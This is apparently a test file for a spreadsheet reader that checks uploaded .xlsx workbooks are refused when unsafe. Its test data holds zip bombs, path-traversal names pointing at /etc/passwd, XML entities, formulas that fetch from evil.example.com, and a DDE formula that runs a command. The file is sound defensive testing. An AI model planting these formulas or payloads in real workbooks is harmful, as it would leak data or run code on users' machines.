// Workbooks that nobody should open are refused in words, with what to do, before anything is made of them.
import { openBook, saveBook, writeBook } from '../../src/sheet/book.ts';
import { refuseBook } from '../../src/sheet/check-archive.ts';
import { makeBook } from '../../src/sheet/make-book.ts';
import { readBook } from '../../src/sheet/read-book.ts';
import { TESTS } from '../support/manual-tests/world.ts';
import { type ZipEntry, zip } from '../support/zip.ts';

const BOOK: ZipEntry = { name: 'xl/workbook.xml', content: '<workbook/>' };
const sheet = (rows: string): ZipEntry => ({
  name: 'xl/worksheets/sheet1.xml',
  content: `<worksheet><sheetData>${rows}</sheetData></worksheet>`,
});

const REFUSED: readonly (readonly [string, readonly ZipEntry[], RegExp])[] = [
  [
    'a zip bomb',
    [BOOK, { name: 'xl/media/a.xml', content: Buffer.alloc(200_000_000) }],
    /more than 150 MB unpacked/,
  ],
  [
    'a zip bomb that lies',
    [BOOK, { name: 'xl/a.xml', content: Buffer.alloc(9_000_000), claims: 10 }],
    /not a whole .xlsx/,
  ],
  ['entries in one another', [BOOK, { name: 'xl/a.xml', content: 'x'.repeat(5000), within: 0 }], /damaged/],
  ['a path out of the archive', [BOOK, { name: '../../etc/passwd', content: 'x' }], /not a whole .xlsx/],
  ['an absolute path', [BOOK, { name: '/etc/passwd', content: 'x' }], /not a whole .xlsx/],
  [
    'too many parts',
    [BOOK, ...Array.from({ length: 501 }, (_, index) => ({ name: `a/${index}.xml`, content: '' }))],
    /more than 500 parts/,
  ],
  ['an encrypted part', [{ ...BOOK, encrypted: true }], /encrypted/],
  [
    'entities',
    [BOOK, { name: 'xl/sharedStrings.xml', content: '<!DOCTYPE a [<!ENTITY b "bbbb">]><sst>&b;</sst>' }],
    /declares entities/,
  ],
  [
    'entities in a sheet',
    [
      BOOK,
      { name: 'xl/worksheets/sheet1.xml', content: `${' '.repeat(70_000)}<!DOCTYPE a [<!ENTITY b "b">]>` },
    ],
    /declares entities/,
  ],
  ['macros', [BOOK, { name: 'xl/vbaProject.bin', content: 'x' }], /has macros/],
  ['old macros', [BOOK, { name: 'xl/macrosheets/sheet1.xml', content: 'x' }], /has macros/],
  ['a control that runs', [BOOK, { name: 'xl/activeX/activeX1.xml', content: 'x' }], /has macros/],
  [
    'links to other files',
    [BOOK, { name: 'xl/externalLinks/externalLink1.xml', content: 'x' }],
    /links to other files/,
  ],
  ['a query of data', [BOOK, { name: 'xl/connections.xml', content: 'x' }], /links to other files/],
  [
    'an embedded file',
    [BOOK, { name: 'xl/embeddings/oleObject1.docx', content: 'x' }],
    /links to other files/,
  ],
  ['a chart as a sheet', [BOOK, { name: 'xl/chartsheets/sheet1.xml', content: 'x' }], /Move the chart/],
  ['16,384 columns', [BOOK, sheet('<row r="1"><c r="XFD1" t="s"><v>1</v></c></row>')], /16384 columns/],
  [
    'a far corner',
    [BOOK, sheet('<row r="1048576"><c s="1" r="CV1048576"><v>1</v></c></row>')],
    /1048576 rows/,
  ],
  [
    'a formula that fetches',
    [BOOK, sheet('<row><c r="A1"><f>WEBSERVICE("https://evil.example.com/"&amp;A2)</f></c></row>')],
    /uses WEBSERVICE/,
  ],
  [
    'a formula that calls',
    [BOOK, sheet('<row><c r="A1"><f t="array" ref="A1">1+REGISTER.ID("a")</f></c></row>')],
    /uses REGISTER/,
  ],
  [
    'a formula of Google that fetches',
    [BOOK, sheet('<row><c r="A1"><f>IMPORTXML("https://evil.example.com","/")</f></c></row>')],
    /uses IMPORTXML/,
  ],
  ['a command', [BOOK, sheet("<row><c r='A1'><f>cmd|' /C calc'!A0</f></c></row>")], /uses DDE/],
  ['no workbook at all', [{ name: 'readme.txt', content: 'x' }], /not an .xlsx workbook/],
];

test.each(REFUSED)('%s is refused', async (_, entries, why) => {
  const reading = await readBook(zip(entries));
  expect(reading).toEqual({ ok: false, why: expect.stringMatching(why) });
});

test('what is no archive, what is cut off, and what is too large are refused', async () => {
  const bytes = await makeBook({
    release: '1',
    candidates: ['rc1'],
    tests: TESTS.slice(0, 5),
    results: new Map(),
  });
  for (const broken of [
    new Uint8Array(0),
    Buffer.from('PK'),
    bytes.slice(0, bytes.length / 2),
    Buffer.from('<html>'),
  ])
    expect(await readBook(broken)).toEqual({ ok: false, why: expect.stringMatching(/not a whole .xlsx/) });
  expect(await refuseBook(bytes, { bytes: 100, unpacked: 1e6, parts: 10, columns: 10, cells: 100 })).toMatch(
    /larger than/,
  );
});

test('a workbook of ours passes, also after it was saved again; one of other people says what is missing', async () => {
  const bytes = await makeBook({
    release: '1',
    candidates: ['rc1'],
    tests: TESTS.slice(0, 5),
    results: new Map(),
  });
  expect(await refuseBook(bytes)).toBeUndefined();
  expect(await refuseBook(await saveBook(await openBook(bytes)))).toBeUndefined();
  const other = await writeBook({
    title: 'Budget',
    sheets: [
      {
        name: 'Budget',
        rows: [
          ['Item', 'Price'],
          ['Tea', 3],
        ],
      },
    ],
  });
  expect(await readBook(other)).toEqual({ ok: false, why: expect.stringContaining('headings "ID" and') });
});

test('sound bytes changed at random never throw and never take long', async () => {
  const bytes = await makeBook({
    release: '1',
    candidates: ['rc1'],
    tests: TESTS.slice(0, 3),
    results: new Map(),
  });
  let seed = 7;
  for (let round = 0; round < 60; round++) {
    const changed = Uint8Array.from(bytes);
    for (let flip = 0; flip < 3; flip++) {
      seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
      changed[seed % changed.length] = seed % 256;
    }
    const reading = await readBook(changed);
    expect(typeof reading.ok).toBe('boolean');
  }
});
